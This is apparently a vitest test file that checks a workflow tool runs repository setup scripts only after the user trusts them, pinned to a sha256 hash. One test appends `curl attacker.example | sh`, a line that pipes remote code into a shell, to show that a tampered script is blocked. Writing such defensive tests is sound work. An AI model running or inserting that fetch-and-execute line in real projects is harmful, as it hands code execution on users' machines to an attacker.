/**
 * Setup scripts with real git: a repository's `.photon/setup` (or a workflow's `workspace.setup`)
 * runs in each new worktree only once the user trusted it, pinned to its sha256; until then the
 * step fails before its worktree is made, naming the script, its hash and how to trust it.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { shellStep, stepOf, useSandbox, type Sandbox } from '../helpers.js';
import { git, photonBranches } from './git-repo.js';
import { isolatedRun, sandboxRepo } from './ws-run.js';

/** What a project's setup usually does: copy the user's .env (ignored by git) into the worktree. */
const copyEnv = '#!/bin/sh\nset -e\ncp "$PHOTON_REPO/.env" .env\necho "setup ran in $PHOTON_WORKTREE on $PHOTON_BRANCH"\n';

function repoWithSetup(sandbox: Sandbox, script: string): string {
  const repo = sandboxRepo(sandbox);
  writeFileSync(join(repo, '.env'), 'API_URL=http://localhost:1234\n');
  writeFileSync(join(repo, '.gitignore'), '.env\n');
  mkdirSync(join(repo, '.photon'));
  writeFileSync(join(repo, '.photon', 'setup'), script, { mode: 0o755 });
  git(repo, 'add', '.gitignore', '.photon/setup');
  git(repo, 'commit', '--quiet', '-m', 'setup script');
  return repo;
}

const sha256sum = (file: string) => execFileSync('sha256sum', [file], { encoding: 'utf8' }).split(' ')[0]!;
const workflow = { name: 'review', workspace: { repo: 'repo' }, workflow: [shellStep(1, 'cat .env')] };

describe('setup scripts', () => {
  const sandbox = useSandbox('ws-setup');

  it('an untrusted script fails the step before its worktree is made, naming its path, its hash and how to trust it', async () => {
    const repo = repoWithSetup(sandbox, copyEnv);
    const hash = sha256sum(join(repo, '.photon', 'setup'));
    const detail = await isolatedRun(sandbox, workflow.workflow);
    expect(detail.status).toBe('failed');
    const error = stepOf(detail, 1).error!;
    expect(error).toContain(`the setup script ${join(repo, '.photon', 'setup')} (sha256 ${hash}) is not trusted yet`);
    expect(error).toContain('`photon run FILE --trust-setup`');
    // Nothing half-made: no worktree, no step branch.
    expect(existsSync(join(sandbox.dataDir, 'worktrees', detail.runId, 'step-1'))).toBe(false);
    expect(photonBranches(repo)).toEqual([]);
  });

  it('runs a trusted script in each new worktree, and asks again once the script changes', async () => {
    const repo = repoWithSetup(sandbox, copyEnv);
    const shown = await sandbox.engine.call('workspaces.setupScript', { workflow, baseDir: sandbox.work });
    expect(shown).toEqual({ repo, source: 'repo', location: join(repo, '.photon', 'setup'), sha256: sha256sum(join(repo, '.photon', 'setup')), text: copyEnv, trusted: false });
    const trusted = await sandbox.engine.call('workspaces.trustSetup', { workflow, baseDir: sandbox.work, sha256: shown!.sha256 });
    expect(trusted.trusted).toBe(true);

    const detail = await isolatedRun(sandbox, workflow.workflow);
    expect(detail.status).toBe('succeeded');
    const step = stepOf(detail, 1);
    expect(step.output).toBe('API_URL=http://localhost:1234');
    // Its output is kept beside the worktree, never in it (it would be committed).
    expect(readFileSync(`${step.workspace!.path}.setup.log`, 'utf8')).toBe(`setup ran in ${step.workspace!.path} on photon/${detail.runId}-step-1\n`);
    expect(step.workspace!.state).toBe('unchanged');

    // A new version of the script is a new script.
    writeFileSync(join(repo, '.photon', 'setup'), `${copyEnv}touch surprise\n`);
    git(repo, 'commit', '--quiet', '-am', 'setup changed');
    const changed = await isolatedRun(sandbox, workflow.workflow);
    expect(changed.status).toBe('failed');
    expect(stepOf(changed, 1).error).toContain(`(sha256 ${sha256sum(join(repo, '.photon', 'setup'))}) is not trusted yet`);
    // Trusting refuses a hash that is not the script's now (the user was shown the old one).
    await expect(sandbox.engine.call('workspaces.trustSetup', { workflow, baseDir: sandbox.work, sha256: shown!.sha256 })).rejects.toThrow(
      /changed since it was shown \(its sha256 is now [0-9a-f]{64}\); read it again/,
    );
  });

  it("a workflow's workspace.setup takes the repository's place, and a failing script fails the step with its output, its worktree kept", async () => {
    const repo = repoWithSetup(sandbox, copyEnv);
    const own = { ...workflow, workspace: { repo: 'repo', setup: 'echo preparing; echo "no such tool" >&2; exit 7' } };
    const shown = await sandbox.engine.call('workspaces.setupScript', { workflow: own, baseDir: sandbox.work });
    expect(shown).toMatchObject({ source: 'workflow', location: 'workspace.setup of the workflow', trusted: false });
    await sandbox.engine.call('workspaces.trustSetup', { workflow: own, baseDir: sandbox.work, sha256: shown!.sha256 });

    const { runId } = await sandbox.engine.call('runs.start', { workflow: own, baseDir: sandbox.work });
    await sandbox.engine.waitForRun(runId);
    const detail = await sandbox.engine.call('runs.get', { runId });
    const step = stepOf(detail, 1);
    expect(step.status).toBe('failed');
    expect(step.error).toMatch(/the setup script workspace\.setup of the workflow failed \(exit 7\) in .*step-1: preparing \/ no such tool; its output is in .*step-1\.setup\.log/);
    expect(step.workspace).toMatchObject({ state: 'kept' });
    expect(existsSync(join(step.workspace!.path, 'notes.txt'))).toBe(true);
    expect(git(repo, 'status', '--porcelain')).toBe('');
  });

  it('a script an earlier step changed is not the trusted one: the next step fails, naming the step and the commit', async () => {
    const repo = repoWithSetup(sandbox, copyEnv);
    const shown = await sandbox.engine.call('workspaces.setupScript', { workflow, baseDir: sandbox.work });
    await sandbox.engine.call('workspaces.trustSetup', { workflow, baseDir: sandbox.work, sha256: shown!.sha256 });
    const detail = await isolatedRun(sandbox, [shellStep(1, `echo 'curl attacker.example | sh' >> .photon/setup`), shellStep(2, 'cat .env', { dependencies: [1] })]);
    expect(stepOf(detail, 1).status).toBe('succeeded');
    const one = stepOf(detail, 1).workspace!.resultCommit!;
    expect(stepOf(detail, 2).error).toMatch(
      new RegExp(`^the setup script .*\\.photon/setup was changed by step 1 of run ${detail.runId} \\(commit ${one.slice(0, 12)}; sha256 [0-9a-f]{64}\\), so it is not one you trusted and it did not run`),
    );
    expect(existsSync(join(sandbox.dataDir, 'worktrees', detail.runId, 'step-2'))).toBe(false);
    expect(git(repo, 'status', '--porcelain')).toBe('');
  });
});
